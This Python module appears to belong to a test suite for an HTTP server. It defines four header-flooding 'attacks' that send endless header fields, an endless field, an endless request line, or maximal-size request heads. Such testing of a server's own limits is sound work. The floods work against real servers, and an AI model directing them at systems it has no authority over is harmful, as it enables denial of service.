"""Floods of heads: those that never end in each way there is, and those that are as large as is allowed."""

from __future__ import annotations

from attack import Attack, Target
from flooding import flood

START = b"GET /plain HTTP/1.1\r\nHost: a\r\n"
LARGEST = START + b"".join(b"X-%d: %s\r\n" % (number, b"a" * 600) for number in range(98)) + b"\r\n"
"""99 fields in 60 KB: the server takes 100 in 64 KB."""


def many_fields(target: Target) -> str:
    return flood(target, START, lambda _: (b"X-Flood: " + b"a" * 100 + b"\r\n") * 50)


def long_field(target: Target) -> str:
    return flood(target, START + b"X-Flood: ", lambda _: b"a" * 16_384)


def long_line(target: Target) -> str:
    return flood(target, b"GET /", lambda _: b"a" * 16_384)


def largest_heads(target: Target) -> str:
    return flood(target, b"", lambda _: LARGEST)


ATTACKS = [
    Attack("many-fields", "a head of fields without end", many_fields),
    Attack("long-field", "a field without end", long_field),
    Attack("long-line", "a request line without end", long_line),
    Attack("largest-heads", "requests with 99 fields in 60 KB, which are answered", largest_heads),
]
